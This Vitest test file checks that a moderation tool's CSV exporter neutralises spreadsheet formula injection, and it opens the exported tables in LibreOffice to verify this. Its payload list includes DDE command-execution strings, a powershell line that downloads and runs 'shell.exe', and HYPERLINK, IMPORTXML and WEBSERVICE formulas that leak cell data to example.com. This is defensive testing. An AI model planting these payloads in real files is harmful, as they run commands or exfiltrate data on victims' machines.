// @vitest-environment node
import { describe, expect, test } from 'vitest';
import { columns } from '@/utils/export/columns';
import type { Encoding, ExportOptions } from '@/utils/export/define-exporter';
import { exporter } from '@/utils/export/formats/csv';
import { escapeCell } from '@/utils/export/formula';
import type { Report } from '@/utils/model/report';
import { makePost, makeReport } from '../../support/builders';
import { findLibreOffice, type OpenedSheet, openTables } from '../../support/libreoffice';

const soffice = findLibreOffice();
if (!soffice)
  console.warn('Tables are not opened: LibreOffice is not installed (Debian: libreoffice-calc-nogui).');

if (process.env.QINGJIAN_NEEDS_LIBREOFFICE) {
  test('LibreOffice is there to open tables with', () => expect(soffice).toBeDefined());
}

/** What spreadsheets have been made to run, by kind (OWASP, "CSV Injection"), and what must not be taken for it. */
const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget example.com/shell.exe)'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  ';=1+1',
  'x;=1+1;y',
  ',=1+1,',
  '",=1+1,"',
  '";=1+1;"',
  '"\t=1+1\t"',
  '"\r\n=1+1',
  '=HYPERLINK("https://example.com/?leak="&A1&A2,"点我领取")',
  '=IMPORTXML(CONCAT("https://example.com/?v=",CONCATENATE(A2:E2)),"//a")',
  '=WEBSERVICE("https://example.com/"&A1)',
  '=DDE("cmd";"/C calc";"__x")',
  '=MSEXCEL|\'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc\'!""',
  '=IMAGE("https://example.com/p.png")',
  '{=1+1}',
  'of:=1+1',
  "'=1+1",
  "''=1+1",
];

const CHINESE = [
  '第一行\n第二行\r\n第三行',
  '他说“没有剧本”，又说"真的"；后半句、还有……',
  '👩‍👩‍👧‍👦 一家 🏳️‍🌈 和 🇨🇳 ☃️',
  '𠮷野家的𬌗𫚭，㐂字',
  '繁體與简体混寫：髮发裏里',
  'ﷺ مرحبا ไทย हिन्दी',
  '半个字符 \ud83d 之后',
  '<b>不是标记</b> &amp; _x000D_ 也不是',
  `${'很长的一段话。'.repeat(300)}完`,
  '末尾有空格  ',
  '1/2',
  '2026-10-01',
  '00123',
  '1E5',
  'TRUE',
];

const TEXTS = [...FORMULAS, ...CHINESE];

/** Every text stands in title, text, hashtag, author and note, as a page and a reviewer would put it there. */
const reports: readonly Report[] = TEXTS.map((text, i) =>
  makeReport({
    id: `report-${i}`,
    note: text,
    post: makePost({
      id: `730123456789012${1000 + i}`,
      title: text,
      text,
      hashtags: [text],
      author: { name: text, id: String(i), verification: text },
    }),
  }),
);

const NOW = new Date('2026-11-22T10:30:05Z');
const REVIEWER = { id: 'reviewer-1', name: '=阿青' };
const optionsIn = (encoding: Encoding, byteOrderMark = true): ExportOptions => ({
  columns: columns.map(({ id }) => id),
  encoding,
  byteOrderMark,
  mask: true,
  head: {
    kind: 'qingjian',
    version: 1,
    exportedAt: NOW.toISOString(),
    extension: '0.1.0',
    reviewer: REVIEWER,
  },
  now: NOW,
  reviewer: REVIEWER,
  categoryName: () => '=虚假摆拍',
  siteName: () => '@小红书',
  guide: () => undefined,
  description: (report) => report.post.text,
  offset: () => 480,
  screenshots: new Map(),
  hashes: new Map(),
});

async function tableOf(options: ExportOptions): Promise<Uint8Array> {
  async function* once<T>(items: readonly T[]): AsyncGenerator<readonly T[]> {
    yield items;
  }
  const source = { reports: () => once(reports), wholes: () => once([]), dismissals: () => once([]) };
  const pieces: BlobPart[] = [];
  for await (const piece of exporter.write(source, options)) pieces.push(piece);
  return new Uint8Array(await new Blob(pieces).arrayBuffer());
}

/** Column by number: `A`, …, `Z`, `AA`, … */
function letters(index: number): string {
  const rest = Math.floor(index / 26);
  return (rest > 0 ? letters(rest - 1) : '') + String.fromCharCode(65 + (index % 26));
}

/** Spreadsheets know one kind of line break within a cell. */
const oneBreak = (text: string) => text.replace(/\r\n?/g, '\n');

/** The cells that are not what the report says. */
function broken(sheet: OpenedSheet, options: ExportOptions, ids?: readonly string[]): string[] {
  return reports.flatMap((report, row) =>
    columns.flatMap(({ id, value }, i) => {
      if (ids && !ids.includes(id)) return [];
      const cell = value(report, options);
      const wanted = typeof cell === 'number' ? String(cell) : oneBreak(escapeCell(cell.toWellFormed()));
      const shown = oneBreak(sheet[row + 1]?.get(letters(i))?.text ?? '');
      return shown === wanted ? [] : [`${id} ${JSON.stringify(wanted)} is ${JSON.stringify(shown)}`];
    }),
  );
}

function formulas(sheet: OpenedSheet): string[] {
  return sheet.flatMap((row) => [...row.values()].flatMap(({ formula }) => formula ?? []));
}

/** Tokens of the filter after the separators: quote, encoding (76 UTF-8, 85 GB18030), first line, columns, language. */
const AS_TEXT = (encoding: 76 | 85) => `44,34,${encoding},1,,0,true`;
/** Comma, semicolon and tab all separate, quoted cells may be numbers and dates: what the dialogue offers at first. */
const AS_OFFERED = (encoding: 76 | 85) => `44/59/9,34,${encoding},1,,0,false,true`;

describe.skipIf(!soffice)('tables opened in LibreOffice', { timeout: 120_000 }, () => {
  test('this way of looking sees a formula that runs, also in quotes', async () => {
    const bytes = new TextEncoder().encode('"=1+1","a"\r\n"\'=1+1","=SUM(1,2)"\r\n');
    const [sheet] = await openTables(soffice!, [bytes], AS_OFFERED(76));
    expect(formulas(sheet!)).toEqual(['1+1', 'SUM(1,2)']);
    expect(sheet![1]!.get('A')).toEqual({ type: 's', text: "'=1+1", formula: undefined });
  });

  test('UTF-8, with and without byte-order mark: every cell is what the report says, and none runs', async () => {
    const tables = await Promise.all([true, false].map((mark) => tableOf(optionsIn('utf-8', mark))));
    const sheets = await openTables(soffice!, tables, AS_TEXT(76));
    for (const sheet of sheets) {
      expect(sheet).toHaveLength(reports.length + 1);
      expect(sheet[0]!.get('A')!.text).toBe(columns[0]!.id);
      expect(formulas(sheet)).toEqual([]);
      expect(broken(sheet, optionsIn('utf-8'))).toEqual([]);
    }
  });

  test('GB18030: the same, with every character', async () => {
    const [sheet] = await openTables(soffice!, [await tableOf(optionsIn('gb18030'))], AS_TEXT(85));
    expect(formulas(sheet!)).toEqual([]);
    expect(broken(sheet!, optionsIn('gb18030'))).toEqual([]);
  });

  test('read as the dialogue offers it, numbers and dates guessed: none runs, and what is no number is intact', async () => {
    const [sheet] = await openTables(soffice!, [await tableOf(optionsIn('utf-8'))], AS_OFFERED(76));
    expect(formulas(sheet!)).toEqual([]);
    expect(
      broken(sheet!, optionsIn('utf-8'), ['post_key', 'hashtags', 'subproblem_zh', 'site_name']),
    ).toEqual([]);
    const guessed = broken(sheet!, optionsIn('utf-8'), [
      'title',
      'text_excerpt',
      'reviewer_note',
      'author_name',
    ]);
    expect(
      [...new Set(guessed.map((each) => JSON.parse(/^\w+ (".*?(?<!\\)") is/.exec(each)![1]!)))].sort(),
    ).toEqual(['00123', '1/2', '1E5', '2026-10-01', 'TRUE'].sort());
  });
});
